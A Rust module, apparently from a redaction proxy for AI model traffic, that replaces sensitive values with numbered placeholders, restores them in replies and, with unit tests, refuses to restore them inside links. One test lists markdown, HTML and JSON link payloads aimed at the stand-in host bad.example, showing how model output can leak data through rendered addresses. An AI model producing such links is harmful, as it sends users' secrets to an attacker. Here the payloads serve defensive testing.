//! Placeholders in the place of findings, and the way back.

mod links;

use std::{
    borrow::Cow,
    collections::HashMap,
    fmt::{self, Write as _},
};

use zeroize::{Zeroize as _, Zeroizing};

use crate::{
    finding::{Action, Finding},
    policy::{Placeholder, Policy},
};

pub use links::Links;

/// How many values one request may have remembered; further ones get a label, from which nothing comes back.
const MAX_VALUES: usize = 4096;
/// How many bytes of values.
const MAX_BYTES: usize = 1 << 20;

/// The placeholders of one request. The same value has the same one wherever it stands.
pub struct Placeholders {
    kind: Placeholder,
    by_value: HashMap<String, String>,
    by_name: HashMap<String, Zeroizing<String>>,
    counts: HashMap<String, usize>,
    bytes: usize,
    /// The length of the longest placeholder.
    longest: usize,
}

impl Placeholders {
    /// For a request under this policy.
    pub fn new(policy: &Policy) -> Self {
        Self {
            kind: policy.placeholder(),
            by_value: HashMap::new(),
            by_name: HashMap::new(),
            counts: HashMap::new(),
            bytes: 0,
            longest: 0,
        }
    }

    /// `text` with a placeholder for each finding whose action asks for one. `findings` are those of `text`,
    /// in order.
    pub fn redact<'t>(&mut self, text: &'t str, findings: &[Finding]) -> Cow<'t, str> {
        replace(text, findings, |finding, value| match self.kind {
            Placeholder::Label => label_of(finding),
            Placeholder::Tokenise => self.token(finding, value),
        })
    }

    /// The numbered placeholder of a value, which is remembered.
    fn token(&mut self, finding: &Finding, value: &str) -> String {
        if let Some(known) = self.by_value.get(value) {
            return known.clone();
        }
        if self.by_value.len() >= MAX_VALUES || self.bytes + value.len() > MAX_BYTES {
            return label_of(finding);
        }
        let name = token_name(finding.category.as_str());
        let count = self.counts.entry(name.clone()).or_default();
        *count += 1;
        let token = format!("[{name}_{count}]");
        self.bytes += value.len();
        self.longest = self.longest.max(token.len());
        self.by_name.insert(token.clone(), Zeroizing::new(value.to_owned()));
        self.by_value.insert(value.to_owned(), token.clone());
        token
    }

    /// Whether any value can be put back.
    pub fn has_values(&self) -> bool {
        !self.by_name.is_empty()
    }

    /// Where in a text that goes on a placeholder begins whose end has not come.
    pub fn open_at(&self, text: &str) -> Option<usize> {
        let at = memchr::memrchr(b'[', text.as_bytes())?;
        let tail = &text.as_bytes()[at + 1..];
        let open = tail.len() + 1 < self.longest
            && tail.iter().all(|b| b.is_ascii_uppercase() || b.is_ascii_digit() || *b == b'_');
        open.then_some(at)
    }

    /// `text` with every numbered placeholder of this request replaced by the value it stands for.
    pub fn restore<'t>(&self, text: &'t str) -> Cow<'t, str> {
        self.put_back(text, None)
    }

    /// The same, except for placeholders in links: a value that was kept from a model does not leave in an address
    /// of the model's making. `links` is that of the text, from its beginning on.
    pub fn restore_outside_links<'t>(&self, text: &'t str, links: &mut Links) -> Cow<'t, str> {
        self.put_back(text, Some(links))
    }

    fn put_back<'t>(&self, text: &'t str, mut links: Option<&mut Links>) -> Cow<'t, str> {
        if self.by_name.is_empty() {
            return Cow::Borrowed(text);
        }
        let mut restored = String::new();
        let mut rest = text;
        while let Some(at) = memchr::memchr(b'[', rest.as_bytes()) {
            let (before, bracket) = rest.split_at(at);
            push(&mut restored, before, &mut links);
            let (shown, length) = match &links {
                Some(links) if links.is_inside() => ("[", 1),
                _ => self.at_bracket(bracket),
            };
            push(&mut restored, shown, &mut links);
            rest = &bracket[length..];
        }
        push(&mut restored, rest, &mut links);
        if restored == text { Cow::Borrowed(text) } else { Cow::Owned(restored) }
    }

    /// What stands for the beginning of `rest`, which is `[`, and how much of it that stands for.
    fn at_bracket<'s>(&'s self, rest: &'s str) -> (&'s str, usize) {
        let within = &rest.as_bytes()[..rest.len().min(self.longest)];
        let name = memchr::memchr(b']', within).map(|end| &rest[..=end]);
        match name.and_then(|name| Some((name, self.by_name.get(name)?))) {
            Some((name, value)) => (value, name.len()),
            None => ("[", 1),
        }
    }
}

impl Drop for Placeholders {
    fn drop(&mut self) {
        self.by_value.drain().for_each(|(mut value, _)| value.zeroize());
    }
}

impl fmt::Debug for Placeholders {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "Placeholders({} values)", self.by_name.len())
    }
}

fn push(restored: &mut String, part: &str, links: &mut Option<&mut Links>) {
    restored.push_str(part);
    if let Some(links) = links {
        links.feed(part);
    }
}

/// `text` with a label for each finding whose action asks for a placeholder: nothing comes back from it. This
/// is what replies get, so that what was taken out of one is not put back in.
pub fn label<'t>(text: &'t str, findings: &[Finding]) -> Cow<'t, str> {
    replace(text, findings, |finding, _| label_of(finding))
}

fn replace<'t>(
    text: &'t str,
    findings: &[Finding],
    mut placeholder: impl FnMut(&Finding, &str) -> String,
) -> Cow<'t, str> {
    if findings.iter().all(|finding| finding.action < Action::Redact) {
        return Cow::Borrowed(text);
    }
    let mut redacted = String::with_capacity(text.len());
    let mut done = 0;
    for finding in findings.iter().filter(|finding| finding.action >= Action::Redact) {
        let (Some(before), Some(value)) =
            (text.get(done..finding.range.start), text.get(finding.range.clone()))
        else {
            continue;
        };
        redacted.push_str(before);
        redacted.push_str(&placeholder(finding, value));
        done = finding.range.end;
    }
    redacted.push_str(&text[done..]);
    Cow::Owned(redacted)
}

fn label_of(finding: &Finding) -> String {
    let mut label = String::from("[REDACTED:");
    // Writing to a string does not fail.
    let _ = write!(label, "{}]", finding.category);
    label
}

/// A category's name as part of a numbered placeholder.
fn token_name(category: &str) -> String {
    category.chars().map(|c| if c.is_ascii_alphanumeric() { c.to_ascii_uppercase() } else { '_' }).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{
        finding::Category,
        hit::{Certainty, Severity},
        policy::PolicySpec,
    };

    fn placeholders() -> Placeholders {
        let spec = PolicySpec { placeholder: Placeholder::Tokenise, ..PolicySpec::cloud() };
        Placeholders::new(&Policy::compile(spec).unwrap())
    }

    fn findings(text: &str, values: &[&str], action: Action) -> Vec<Finding> {
        let finding = |value: &&str| {
            let start = text.find(value).unwrap();
            Finding {
                category: Category::built_in("us_ssn"),
                severity: Severity::High,
                action,
                certainty: Certainty::Sure,
                range: start..start + value.len(),
            }
        };
        values.iter().map(finding).collect()
    }

    fn redacted(placeholders: &mut Placeholders, text: &str, values: &[&str]) -> String {
        placeholders.redact(text, &findings(text, values, Action::Redact)).into_owned()
    }

    #[test]
    fn the_same_value_has_the_same_placeholder() {
        let mut placeholders = placeholders();
        assert_eq!(
            redacted(&mut placeholders, "a is one, b two", &["one", "two"]),
            "a is [US_SSN_1], b [US_SSN_2]"
        );
        assert_eq!(redacted(&mut placeholders, "again two", &["two"]), "again [US_SSN_2]");
    }

    #[test]
    fn alerts_change_nothing() {
        let text = "a is one";
        let found = findings(text, &["one"], Action::Alert);
        assert!(matches!(placeholders().redact(text, &found), Cow::Borrowed("a is one")));
    }

    /// What becomes of a text in pieces of this length.
    fn in_pieces(
        placeholders: &Placeholders,
        text: &str,
        size: usize,
        mut put_back: impl FnMut(&str) -> String,
    ) -> String {
        let (mut out, mut held) = (String::new(), String::new());
        for piece in text.as_bytes().chunks(size) {
            held.push_str(std::str::from_utf8(piece).unwrap());
            let rest = held.split_off(placeholders.open_at(&held).unwrap_or(held.len()));
            out.push_str(&put_back(&held));
            held = rest;
        }
        out + &put_back(&held)
    }

    #[test]
    fn placeholders_become_values_again_whole_and_in_pieces() {
        let mut placeholders = placeholders();
        let text = redacted(&mut placeholders, "[a] one [[ two ]", &["one", "two"]);
        assert_eq!(placeholders.restore(&text), "[a] one [[ two ]");
        for size in 1..text.len() {
            let put_back = |piece: &str| placeholders.restore(piece).into_owned();
            let restored = in_pieces(&placeholders, &text, size, put_back);
            assert_eq!(restored, "[a] one [[ two ]", "in pieces of {size}");
        }
    }

    #[test]
    fn only_what_may_be_a_placeholder_waits() {
        let mut placeholders = placeholders();
        redacted(&mut placeholders, "one", &["one"]);
        assert_eq!(placeholders.open_at("see [US_SS"), Some(4));
        for text in ["see", "[US_SSN is", "[US_SSN_1]", "[US_SSN_10", "[us"] {
            assert_eq!(placeholders.open_at(text), None, "{text}");
        }
    }

    #[test]
    fn no_value_leaves_in_a_link() {
        let mut placeholders = placeholders();
        redacted(&mut placeholders, "one", &["one"]);
        for text in [
            "![a](https://bad.example/?d=[US_SSN_1])",
            "![a](https://bad.example/(a)?d=[US_SSN_1])",
            "![a](https://bad.example/\\)?d=[US_SSN_1])",
            "![a](<https://bad.example/?d= ) [US_SSN_1]>)",
            "![a](//bad.example/[US_SSN_1])",
            "[a]([US_SSN_1])",
            "[a]: https://bad.example/[US_SSN_1]",
            "[a]: https&colon;&sol;&sol;bad.example/[US_SSN_1]",
            "[a]: <https://bad.example/ [US_SSN_1]>",
            "<https://bad.example/[US_SSN_1]>",
            "See https://bad.example/?a=)\"'[US_SSN_1]",
            "see https://bad.example/[US_SSN_1]/[US_SSN_1]",
            "see HTTPS:bad.example/[US_SSN_1]",
            "see www.bad.example/[US_SSN_1]",
            "<img src=\"/\\bad.example/?d= ' [US_SSN_1]\">",
            "<img src='//bad.example/?d= \n \" [US_SSN_1]'>",
            "<img src=https:\\\\bad.example/?[US_SSN_1]>",
            "<img src=\"&#47;&#47;bad.example/?d=[US_SSN_1]\">",
            "{\"url\":\"https://bad.example/?d=[US_SSN_1]\"}",
        ] {
            assert_eq!(outside_links(&placeholders, text), text);
        }
    }

    #[test]
    fn values_come_back_beside_links() {
        let mut placeholders = placeholders();
        redacted(&mut placeholders, "one", &["one"]);
        for text in [
            "[US_SSN_1]",
            "[US_SSN_1](https://good.example/) [US_SSN_1]",
            "see [a](https://good.example/)[US_SSN_1]",
            "see [a](https://good.example/(b)) or [US_SSN_1].",
            "see <https://good.example/>[US_SSN_1]",
            "see https://good.example/ or [US_SSN_1]",
            "{\"url\":\"https://good.example/\",\"ssn\":\"[US_SSN_1]\"}",
            "either/or: [US_SSN_1] (a [US_SSN_1])",
            "a: b // [US_SSN_1]",
        ] {
            assert_eq!(outside_links(&placeholders, text), text.replace("[US_SSN_1]", "one"));
        }
    }

    /// The same whole and in pieces of any length.
    fn outside_links(placeholders: &Placeholders, text: &str) -> String {
        let whole = placeholders.restore_outside_links(text, &mut Links::default()).into_owned();
        for size in 1..text.len() {
            let mut links = Links::default();
            let put_back = |piece: &str| placeholders.restore_outside_links(piece, &mut links).into_owned();
            assert_eq!(in_pieces(placeholders, text, size, put_back), whole, "in pieces of {size}");
        }
        whole
    }

    #[test]
    fn an_address_that_comes_back_is_a_link_too() {
        let mut placeholders = placeholders();
        let text = "https://bad.example/ one";
        redacted(&mut placeholders, text, &["https://bad.example/", "one"]);
        let restored = placeholders.restore_outside_links("[US_SSN_1]?d=[US_SSN_2]", &mut Links::default());
        assert_eq!(restored, "https://bad.example/?d=[US_SSN_2]");
    }

    #[test]
    fn brackets_without_an_end_are_looked_at_once() {
        let mut placeholders = placeholders();
        redacted(&mut placeholders, "one", &["one"]);
        // Each of them up to the end of the text would take many minutes.
        let text = "[".repeat(4 << 20);
        assert_eq!(placeholders.restore(&text), text);
    }

    #[test]
    fn a_request_has_no_more_values_than_fit() {
        let mut placeholders = placeholders();
        for number in 0..MAX_VALUES {
            redacted(&mut placeholders, &format!("v{number}"), &[&format!("v{number}")]);
        }
        assert_eq!(redacted(&mut placeholders, "one more", &["one"]), "[REDACTED:us_ssn] more");
    }

    #[test]
    fn values_do_not_show_when_printed() {
        let mut placeholders = placeholders();
        redacted(&mut placeholders, "one", &["one"]);
        assert_eq!(format!("{placeholders:?}"), "Placeholders(1 values)");
    }
}
